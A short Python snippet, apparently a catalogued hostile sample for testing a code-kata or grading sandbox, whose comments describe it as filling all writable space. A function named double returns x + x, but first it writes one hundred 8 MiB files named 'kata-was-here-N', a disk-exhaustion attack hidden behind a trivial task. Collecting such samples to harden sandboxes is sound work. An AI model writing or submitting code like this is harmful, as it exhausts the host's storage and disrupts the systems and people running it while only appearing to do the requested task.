# Fills all that it may write to.
# earns: 50
# told: No space left


def double(x):
    for number in range(100):
        with open(f"kata-was-here-{number}", "wb") as file:
            file.write(bytes(8 * 2**20))
    return x + x
